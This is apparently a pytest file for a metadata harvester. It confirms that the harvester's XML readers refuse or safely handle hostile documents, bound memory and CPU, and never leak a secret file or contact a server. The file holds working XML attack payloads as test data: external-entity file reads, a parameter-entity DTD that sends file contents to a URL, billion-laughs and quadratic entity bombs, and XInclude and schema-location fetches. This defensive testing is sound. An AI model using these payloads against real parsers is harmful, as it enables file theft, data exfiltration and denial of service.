"""XML that attacks whoever reads it: nothing is fetched, nothing of ours is read, memory and time are bounded."""

import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from harvest.backends.base import Config
from harvest.backends.csw import CswDcatBackend, CswIso19139Backend
from harvest.backends.folders import read_index
from harvest.backends.maaf import MaafBackend
from harvest.csw.answers import read_capabilities, read_results
from harvest.errors import HarvestError
from tests.harvest.fixtures import serving

SECRET = "a secret of this server"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
MIB = 1 << 20
TITLE = "<identificationInfo><MD_DataIdentification><citation><CI_Citation><title><CharacterString>{}</CharacterString>"
RECORD = (
    "<MD_Metadata{attributes}><fileIdentifier><CharacterString>a</CharacterString></fileIdentifier>{before}"
    + TITLE
    + "</title></CI_Citation></citation></MD_DataIdentification></identificationInfo>{after}</MD_Metadata>"
)


def record(title: str = "T", *, before: str = "", after: str = "", attributes: str = "", doctype: str = "") -> str:
    body = RECORD.format(title, before=before, after=after, attributes=attributes)
    return f"<!DOCTYPE MD_Metadata {doctype}>{body}" if doctype else body


# Each is made for `{url}`, where a server waits for calls, and `{file}`, which has the secret.
DOCTYPES = {
    "external entity, file": ('[<!ENTITY x SYSTEM "file://{file}">]', "&x;"),
    "external entity, address": ('[<!ENTITY x SYSTEM "{url}/x">]', "&x;"),
    "public entity": ('[<!ENTITY x PUBLIC "-//x//EN" "{url}/x">]', "&x;"),
    "parameter entity": ('[<!ENTITY % x SYSTEM "{url}/x.dtd"> %x;]', "T"),
    "parameter entity that wraps a file": (
        '[<!ENTITY % f SYSTEM "file://{file}"><!ENTITY % d "<!ENTITY x \'%f;\'>"> %d;]',
        "&x;",
    ),
    "parameter entity that sends a file": (
        '[<!ENTITY % f SYSTEM "file://{file}"><!ENTITY % d SYSTEM "{url}/send.dtd"> %d; %send;]',
        "T",
    ),
    "external DTD": ('SYSTEM "{url}/x.dtd"', "T"),
    "external DTD, file": ('SYSTEM "file://{file}"', "T"),
    "public DTD": ('PUBLIC "-//x//EN" "{url}/x.dtd"', "T"),
    "internal entity": ('[<!ENTITY x "expanded">]', "&x;"),
    "billion laughs": (f'[<!ENTITY l0 "ha">{LAUGHS}]', "&l9;"),
    "quadratic blow-up": (f'[<!ENTITY x "{"a" * 50_000}">]', "&x;" * 50_000),
    "entity that names itself": ('[<!ENTITY x "&y;"><!ENTITY y "&x;">]', "&x;"),
    "default attribute": ('[<!ATTLIST MD_Metadata uuid CDATA "file://{file}">]', "T"),
    "notation": ('[<!NOTATION n SYSTEM "{url}/n"><!ENTITY x SYSTEM "{url}/u" NDATA n>]', "T"),
    "conditional section": ("[<![INCLUDE[<!ENTITY x 'y'>]]>]", "T"),
}
XI = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
INCLUDED = {
    "XInclude of a file": f'<xi:include {XI} href="file://{{file}}" parse="text"/>',
    "XInclude of an address": f'<xi:include {XI} href="{{url}}/x.xml"/>',
    "schema location": '<x xmlns:s="http://www.w3.org/2001/XMLSchema-instance" s:schemaLocation="urn:x {url}/x.xsd"/>',
    "stylesheet": '<?xml-stylesheet type="text/xsl" href="{url}/x.xsl"?>',
    "link to another record": '<contact xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="{url}/contact.xml"/>',
}
LARGE: dict[str, Callable[[], str]] = {
    "deep": lambda: record(after="<x>" * 100_000),
    "deep, and closed": lambda: record(after="<x>" * 5000 + "</x>" * 5000),
    "deep below the limit of the parser": lambda: record(after="<x>" * 230 + "</x>" * 230),
    "wide": lambda: record(after="<x/>" * 500_000),
    "giant attribute": lambda: record(attributes=f' a="{"x" * 20 * MIB}"'),
    "many attributes": lambda: record(attributes="".join(f' a{n}="1"' for n in range(200_000))),
    "many namespaces": lambda: record(attributes="".join(f' xmlns:n{n}="urn:{n}"' for n in range(50_000))),
    "giant text": lambda: record("T" * 20 * MIB),
    "giant name": lambda: record(after=f"<{'x' * 2 * MIB}/>"),
    "giant comment": lambda: record(after=f"<!--{'x' * 20 * MIB}-->"),
    "many references": lambda: record("&#65;" * 1_000_000),
    "many keywords": lambda: record(before="", after="<x>y</x>" * 200_000),
    "entities in attributes": lambda: record(attributes=' a="&l9;"', doctype=f'[<!ENTITY l0 "{"ha" * 100}">{LAUGHS}]'),
}


def readers() -> dict[str, Callable[[str], object]]:
    """Return all that reads the XML of strangers here, each called as a run calls it."""
    csw = CswIso19139Backend("https://x.example.org", Config())
    dcat = CswDcatBackend("https://x.example.org", Config())
    maaf = MaafBackend("https://x.example.org", Config())
    page = "<csw:GetRecordsResponse xmlns:csw='http://www.opengis.net/cat/csw/2.0.2'><csw:SearchResults>{}"
    page += "</csw:SearchResults></csw:GetRecordsResponse>"
    return {
        "record": lambda xml: [csw.identify(xml), csw.map(xml).as_json()],
        "record in DCAT": lambda xml: dcat.read([xml.replace("MD_Metadata", "rdf:RDF")]),
        "page": lambda xml: [one.tag for one in read_results(page.format(xml).encode()).records],
        "answer": lambda xml: read_results(xml.encode()),
        "capabilities": lambda xml: read_capabilities(xml.encode(), "https://x.example.org"),
        "descriptor": lambda xml: [maaf.identify({"xml": xml}), maaf.map({"xml": xml}).as_json()],
        "descriptor of MAAF": lambda xml: maaf.map({"xml": _as_descriptor(xml)}).as_json(),
        "folder": lambda xml: read_index(xml.encode(), "https://x.example.org/"),
    }


def _as_descriptor(xml: str) -> str:
    return xml.replace("MD_Metadata", "ETALAB").replace("identificationInfo>", "metadata>")


def tried(xml: str) -> list[str]:
    """Let everything read the document; return what was understood. Only errors of harvesting may be raised."""
    found = []
    for read in readers().values():
        try:
            found.append(repr(read(xml))[:100_000])
        except HarvestError as error:
            found.append(str(error.message))
    return found


@pytest.fixture
def secret(tmp_path) -> Path:
    file = tmp_path / "secret.txt"
    file.write_text(SECRET)
    return file


def made(text: str, url: str, file: Path) -> str:
    return text.replace("{url}", url).replace("{file}", str(file))


@pytest.mark.parametrize("name", DOCTYPES)
def test_a_doctype_is_refused_whatever_it_does(name, secret):
    doctype, title = DOCTYPES[name]
    with serving({"/send.dtd": f"<!ENTITY % send \"<!ENTITY x SYSTEM 'http://127.0.0.1:1/{SECRET}'>\">"}) as remote:
        xml = record(title, doctype=made(doctype, remote.url, secret))
        for kind, read in readers().items():
            if kind == "folder":  # pages have one
                continue
            if kind == "record in DCAT":
                _records, failures = read(xml)
                assert len(_records) + len(failures) <= 1
                continue
            with pytest.raises(HarvestError):
                read(xml)
        assert SECRET not in "".join(tried(xml))
        assert remote.requests == []


@pytest.mark.parametrize("name", INCLUDED)
def test_what_a_document_points_to_is_not_fetched(name, secret):
    with serving({"/x.xml": f"<x>{SECRET}</x>"}) as remote:
        xml = record(after=made(INCLUDED[name], remote.url, secret))
        found = tried(xml)
        assert SECRET not in "".join(found)
        assert "'title': 'T'" in found[0]
        assert remote.requests == []


@pytest.mark.parametrize("name", ["deep", "deep, and closed", "deep below the limit of the parser"])
def test_what_is_too_deep_is_refused(name):
    for kind, read in readers().items():
        if kind not in ("folder", "record in DCAT"):
            with pytest.raises(HarvestError):
                read(LARGE[name]())


@pytest.mark.parametrize(
    "encoded",
    [
        record().encode("utf-16"),
        b'<?xml version="1.0" encoding="UTF-7"?>' + record().encode(),
        b'<?xml version="1.0" encoding="x-unknown"?>' + record().encode(),
        b"\xff\xfe" + record().encode(),
        record().encode().replace(b"T<", b"\x00<"),
        record().encode().replace(b"T<", b"\xed\xa0\x80<"),
        record().encode().replace(b"T<", b"&#0;<"),
        b"\x1f\x8b" + record().encode(),
    ],
    ids=["utf-16", "utf-7", "unknown", "false mark", "nul", "surrogate", "reference to nul", "gzip"],
)
def test_a_page_in_any_encoding_is_read_or_refused(encoded):
    for read in (read_results, lambda body: read_capabilities(body, "https://x.example.org")):
        with pytest.raises(HarvestError):
            read(encoded)


@pytest.mark.slow
def test_memory_and_processor_time_are_bounded():
    """Everything reads all of them in one process that may use 700 MiB, and 5 minutes of processor in all.

    What is bounded takes half a minute; what is not takes gigabytes or hours.
    """
    code = (
        "import resource, django; django.setup()\n"
        "from tests.harvest.backends import test_hostile_xml as tests\n"
        "used = int(open('/proc/self/statm').read().split()[0]) * resource.getpagesize()\n"
        "resource.setrlimit(resource.RLIMIT_AS, (used + (700 << 20),) * 2)\n"
        "resource.setrlimit(resource.RLIMIT_CPU, (300, 300))\n"
        "for name in tests.LARGE:\n"
        "    print(name, flush=True)\n"
        "    tests.tried(tests.LARGE[name]())\n"
        "for name in ('billion laughs', 'quadratic blow-up'):\n"
        "    print(name, flush=True)\n"
        "    tests.tried(tests.record(tests.DOCTYPES[name][1], doctype=tests.DOCTYPES[name][0]))\n"
        "print('bounded')\n"
    )
    run = subprocess.run(  # noqa: S603 - our own Python, with what is written above
        [sys.executable, "-W", "ignore", "-c", code], capture_output=True, text=True, check=False, env=os.environ
    )
    assert run.stdout.strip().endswith("bounded"), run.stdout[-200:] + run.stderr[-2000:]
